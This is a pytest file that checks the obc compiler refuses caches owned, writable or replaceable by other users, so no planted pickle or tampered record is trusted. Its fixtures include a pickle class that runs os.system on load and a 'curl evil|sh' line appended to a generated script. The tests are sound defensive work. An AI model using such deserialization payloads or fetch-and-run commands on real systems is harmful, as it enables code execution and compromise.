"""obc's cache is used only if no one but the invoker can change it: another user's folder,
or one others can write or replace, is refused (obc compiles without a cache and says so),
so no record or compiled template (a pickle) of theirs is ever read."""

from __future__ import annotations

import hashlib
import json
import os
import pickle
import stat
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path

import jinja2.bccache
import pytest

from compiler.core.resources import data_dir
from tests.conftest import REPO, open_folder

NOBODY = 65534
COMPILE = ("compile", "examples", "-o", "out")
REFUSED = "obc: warning: not using the cache "


@pytest.fixture
def shared() -> Iterator[Path]:
    """A folder every user can write, as /tmp is (mode 1777), that another user can reach
    (the test's own tmp_path is private to root)."""
    yield from open_folder("obc-shared-", 0o1777)


def as_nobody(*argv: str, stdin: bytes = b"") -> None:
    """Run a command as the unprivileged user `nobody`: another user."""
    subprocess.run(["runuser", "-u", "nobody", "--", *argv], input=stdin, check=True)


def obc_process(project: Path, *args: str, **env: str) -> subprocess.CompletedProcess:
    environment = {key: value for key, value in os.environ.items()
                   if key not in ("OBC_COMPILE_CACHE", "XDG_CACHE_HOME")}
    return subprocess.run([sys.executable, "-m", "compiler", *args], cwd=project, text=True,
                          capture_output=True, check=False,
                          env={**environment, "PYTHONPATH": str(REPO), **env})


class _RunCommand:
    """Pickled, it runs a command when it is loaded."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self):
        return (os.system, (self.command,))


def test_another_users_compiled_templates_are_never_loaded(project, shared, tmp_path):
    # Jinja's bytecode cache would load a pickle from a shared cache.
    canary = tmp_path / "ran"
    payload = jinja2.bccache.bc_magic + pickle.dumps(_RunCommand(f"touch {canary}"))
    templates = data_dir("templates")
    for template in templates.glob("*.j2"):
        key = hashlib.sha1(f"{template.name}|{template}".encode()).hexdigest()
        as_nobody("sh", "-c", 'umask 0 && mkdir -p "$1" && cat > "$1/$2"', "sh",
                  str(shared / "obc" / "templates"), f"__jinja2_{key}.cache", stdin=payload)

    compiled = obc_process(project, *COMPILE, XDG_CACHE_HOME=str(shared))

    assert compiled.returncode == 0, compiled.stderr
    assert not canary.exists()
    assert f"{REFUSED}{shared}/obc: it is owned by uid {NOBODY}, not by you;" in compiled.stderr
    assert "Traceback" not in compiled.stderr


@pytest.mark.slow
def test_another_users_record_cannot_vouch_for_a_tampered_script(project, shared, obc,
                                                                   monkeypatch):
    # A record in a shared cache could vouch for a tampered job.sh.
    as_nobody("sh", "-c", 'umask 0 && mkdir "$1"', "sh", str(shared / "obc"))
    monkeypatch.delenv("OBC_COMPILE_CACHE")
    monkeypatch.setenv("XDG_CACHE_HOME", str(shared))
    assert obc(*COMPILE).code == 0
    script = project / "out" / "docker-qlora" / "job.sh"
    compiled = script.read_text()
    tampered = compiled + "curl evil|sh\n"
    script.write_text(tampered)
    for record in (shared / "obc").rglob("*.json"):  # the other user vouches for it
        text = record.read_text()
        for old, new in ((compiled, tampered), (_json_text(compiled), _json_text(tampered)),
                         (_sha256(compiled), _sha256(tampered))):
            text = text.replace(old, new)
        record.write_text(text)
        os.chown(record, NOBODY, NOBODY)

    check = obc(*COMPILE, "--check")

    assert check.code == 1
    assert "out/docker-qlora/job.sh:" in check.stderr


def _json_text(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)[1:-1]


def _sha256(text: str) -> str:
    return hashlib.sha256(text.encode()).hexdigest()


def test_a_cache_others_can_write_is_refused(project, tmp_path, obc, monkeypatch):
    cache = tmp_path / "cache"
    cache.mkdir()
    cache.chmod(0o775)  # the invoker's, but their group can write in it
    monkeypatch.setenv("OBC_COMPILE_CACHE", str(cache))
    outcome = obc(*COMPILE)
    assert outcome.code == 0
    assert f"{REFUSED}{cache}: others can write in it (mode 0775);" in outcome.stderr
    assert list(cache.iterdir()) == []
    assert stat.S_IMODE(cache.stat().st_mode) == 0o775  # tightening would not undo a write


def test_a_cache_linked_to_another_users_folder_is_refused(project, shared, obc, monkeypatch):
    theirs = shared / "theirs"
    as_nobody("mkdir", "-m", "700", str(theirs))
    link = shared / "cache"
    link.symlink_to(theirs)
    monkeypatch.setenv("OBC_COMPILE_CACHE", str(link))
    outcome = obc(*COMPILE)
    assert outcome.code == 0
    assert f"{REFUSED}{link}: it is owned by uid {NOBODY}, not by you;" in outcome.stderr
    assert list(theirs.iterdir()) == []


def test_a_cache_in_a_folder_others_can_replace_it_from_is_refused(project, tmp_path, obc,
                                                                   monkeypatch):
    parent = tmp_path / "team"
    parent.mkdir()
    parent.chmod(0o777)  # not sticky: anyone can rename the cache away and put theirs there
    monkeypatch.setenv("OBC_COMPILE_CACHE", str(parent / "obc"))
    outcome = obc(*COMPILE)
    assert outcome.code == 0
    assert (f"{REFUSED}{parent}/obc: others can replace what is in {parent} (mode 0777);"
            in outcome.stderr)


@pytest.mark.slow
def test_the_invokers_cache_is_made_private_and_used(project, tmp_path, obc, monkeypatch):
    made, readable = tmp_path / "new" / "obc", tmp_path / "old"
    readable.mkdir(mode=0o755)  # as an earlier obc left it: only the invoker could write it
    for cache in (made, readable):
        monkeypatch.setenv("OBC_COMPILE_CACHE", str(cache))
        outcome = obc(*COMPILE)
        assert (outcome.code, REFUSED in outcome.stderr) == (0, False)
        assert stat.S_IMODE(cache.stat().st_mode) == 0o700
        assert {"findings", "outputs"} <= {path.name for path in cache.iterdir()}


@pytest.mark.slow
def test_a_cache_that_cannot_be_made_is_skipped_quietly(project, tmp_path, obc, monkeypatch):
    (tmp_path / "a-file").write_text("")
    monkeypatch.setenv("OBC_COMPILE_CACHE", str(tmp_path / "a-file" / "obc"))
    outcome = obc(*COMPILE)
    assert (outcome.code, outcome.stderr) == (0, "obc: 4 written, 0 unchanged, 0 removed\n")
